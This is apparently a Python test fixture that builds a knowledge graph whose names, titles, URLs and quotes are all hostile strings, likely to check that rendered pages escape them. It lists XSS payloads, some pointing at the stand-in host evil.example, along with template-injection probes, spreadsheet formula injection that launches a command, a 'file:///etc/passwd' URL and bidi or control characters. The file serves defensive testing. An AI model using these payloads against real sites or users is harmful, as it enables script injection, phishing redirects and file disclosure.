"""Text that would like to be more than text, put wherever a page shows what an article says."""

from kg.model import Article, Entity, Evidence, Graph, Literal, Modality, Polarity, Precision, Span, Statement, When

RUN = "window.hacked=1"
HOSTILE = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</SCRIPT ><script>{RUN}//",
    f"<!--<script>{RUN}</script>-->",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror=\"{RUN}\">",
    f"'><img src=x onerror={RUN}>",
    f'"><img src=x onerror={RUN}>',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    "<iframe src=https://evil.example/></iframe>",
    f"<details open ontoggle={RUN}>",
    f"<math><mtext><style><img src=x onerror={RUN}></style></mtext></math>",
    f"<a href=javascript:{RUN}>click</a>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><input name=q autofocus></form>",
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    "https://news.example/\"onmouseover=\"window.hacked=1",
    "//evil.example/protocol-relative",
    "file:///etc/passwd",
    "{{ 7 * 7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${window.hacked=1}",
    "`${window.hacked=1}`",
    "#{7*7}",
    "<%= 7*7 %>",
    f"\";{RUN};//",
    f"';{RUN};//",
    f"\\\";{RUN};//",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    "&lt;script&gt;window.hacked=1&lt;/script&gt;",
    "&#60;script&#62;",
    "\u202egnitirw esrever\u202c",
    "\u2066\u2067isolates\u2069",
    "\u200f\u200fright \u0627\u0644\u0639\u0631\u0628\u064a\u0629 to left",
    "line\u2028separator\u2029paragraph",
    "null\u0000byte and \u0007bell",
    "\ufeffmark \ufffe\uffff",
    "=HYPERLINK(\"https://evil.example\",\"x\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "Zalgo \u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e" * 4,
    "\U0001f469\u200d\U0001f469\u200d\U0001f466 family \U0001f3f4",
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "toString",
    "L" * 10_000,
    "long words " * 900,
    "",
    "   ",
)  # fmt: skip


def hostile_graph() -> Graph:
    """Return a graph in which each hostile string is a name, title, outlet, URL, sentence, trigger, rule and value."""
    entities, articles, statements = [], [], []
    n = len(HOSTILE)
    for i, text in enumerate(HOSTILE):
        entities.append(
            Entity(f"{i:03} {text}"[:400], text[:60] or "Person", text, also_known_as=(text,), same_as=(text,))
        )
        articles.append(Article(f"{i:03} {text}", text, text, text, "2024-01-02" if i % 2 else text, text))
    for i, text in enumerate(HOSTILE):
        quote, trigger = f"{text} said that {text} rose.", "said"
        evidence = Evidence(
            articles[i].id, Span(0, len(quote)), quote, Span(len(text) + 1, len(text) + 5), trigger, rule=text,
            polarity=Polarity.NEGATIVE if i % 5 == 0 else Polarity.POSITIVE, modality=list(Modality)[i % 5],
            speaker=entities[(i + 1) % n].id, via=(entities[(i + 2) % n].id,),
            when=When("2024-01", Precision.MONTH), where=entities[(i + 3) % n].id,
            arguments=((text, Literal(text, "quantity", text)), (text, entities[(i + 4) % n].id)),
            subject_text=text, object_text=text,
        )  # fmt: skip
        statements.append(Statement(entities[i].id, f"other:{text}", entities[(i + 1) % n].id, (evidence,)))
        statements.append(Statement(entities[i].id, "holds-position", Literal(text, "string", text), (evidence,)))
        statements.append(Statement(entities[i].id, "backs", entities[0].id, (evidence,)))
    return Graph(tuple(articles), tuple(entities), tuple(statements))
